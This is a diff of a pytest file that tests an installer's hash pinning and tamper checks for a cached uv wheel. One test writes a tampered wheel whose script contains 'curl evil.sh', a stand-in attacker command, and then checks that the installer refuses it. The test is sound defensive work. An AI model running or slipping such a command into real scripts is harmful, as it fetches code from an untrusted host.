@@ -90,43 +90,53 @@ def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str
         yield f"{base}/simple", wheel
 
 
-def test_a_pinned_wheel_gives_its_binary(index: tuple[str, bytes], tmp_path: Path, monkeypatch) -> None:
-    url, wheel = index
+def pin_uv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, digest: str) -> None:
+    """Make uv's lock pin `digest`."""
     lock = tmp_path / "requirements-uv.txt"
-    lock.write_text(
-        f"uv==9.9.9 \\\n    --hash=sha256:{hashlib.sha256(wheel).hexdigest()}\n", encoding="utf-8"
-    )
+    lock.write_text(f"uv==9.9.9 \\\n    --hash=sha256:{digest}\n", encoding="utf-8")
     monkeypatch.setattr(installer, "UV_LOCK", lock)
-    binary = installer.fetch_uv(tmp_path / "cache", url)
-    assert binary.read_text(encoding="utf-8").endswith("echo fake uv\n") and binary.stat().st_mode & 0o111
-    assert installer.fetch_uv(tmp_path / "cache", "http://127.0.0.1:9/simple") == binary  # kept: no fetch
 
 
-def test_a_kept_uv_counts_only_while_its_wheel_hash_is_pinned(
-    index: tuple[str, bytes], tmp_path: Path, monkeypatch
+def test_a_pinned_wheel_gives_its_binary_and_is_kept(
+    index: tuple[str, bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     url, wheel = index
-    lock = tmp_path / "requirements-uv.txt"
-    lock.write_text(
-        f"uv==9.9.9 \\\n    --hash=sha256:{hashlib.sha256(wheel).hexdigest()}\n", encoding="utf-8"
-    )
-    monkeypatch.setattr(installer, "UV_LOCK", lock)
-    installer.fetch_uv(tmp_path / "cache", url)
-    lock.write_text("uv==9.9.9 \\\n    --hash=sha256:" + "1" * 64 + "\n", encoding="utf-8")
+    pin_uv(tmp_path, monkeypatch, hashlib.sha256(wheel).hexdigest())
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+
+    binary = installer.fetch_uv(tmp_path / "cache", url, tmp_path / "a")
+    again = installer.fetch_uv(tmp_path / "cache", "http://127.0.0.1:9/simple", tmp_path / "b")  # no index
+
+    assert binary.read_text(encoding="utf-8").endswith("echo fake uv\n") and binary.stat().st_mode & 0o100
+    assert again.read_bytes() == binary.read_bytes()
+
+
+def test_a_kept_uv_wheel_is_checked_on_every_use(
+    index: tuple[str, bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    url, wheel = index
+    pin_uv(tmp_path, monkeypatch, hashlib.sha256(wheel).hexdigest())
+    installer.fetch_uv(tmp_path / "cache", url, tmp_path)
+    (kept,) = (tmp_path / "cache").glob("uv-*.whl")
+    kept.write_bytes(fake_wheel("9.9.9", "tampered").replace(b"echo fake uv", b"curl evil.sh"))
+
+    binary = installer.fetch_uv(tmp_path / "cache", url, tmp_path)  # fetched again: the kept one changed
+
+    assert b"curl" not in binary.read_bytes() and kept.read_bytes() == wheel
+    pin_uv(tmp_path, monkeypatch, "1" * 64)
     with pytest.raises(installer.InstallProblem, match="does not match"):
-        installer.fetch_uv(tmp_path / "cache", url)
+        installer.fetch_uv(tmp_path / "cache", url, tmp_path)
 
 
 def test_a_wheel_whose_hash_is_not_pinned_is_refused(
-    index: tuple[str, bytes], tmp_path: Path, monkeypatch
+    index: tuple[str, bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     url, _ = index
-    lock = tmp_path / "requirements-uv.txt"
-    lock.write_text("uv==9.9.9 \\\n    --hash=sha256:" + "0" * 64 + "\n", encoding="utf-8")
-    monkeypatch.setattr(installer, "UV_LOCK", lock)
+    pin_uv(tmp_path, monkeypatch, "0" * 64)
     with pytest.raises(installer.InstallProblem, match="does not match the pinned hashes"):
-        installer.fetch_uv(tmp_path / "cache", url)
-    assert not list((tmp_path / "cache").rglob("uv"))
+        installer.fetch_uv(tmp_path / "cache", url, tmp_path)
+    assert not list(tmp_path.rglob("uv*"))  # neither kept nor written
 
 
 def test_any_failure_of_the_fast_way_installs_with_pip(tmp_path: Path, monkeypatch) -> None:
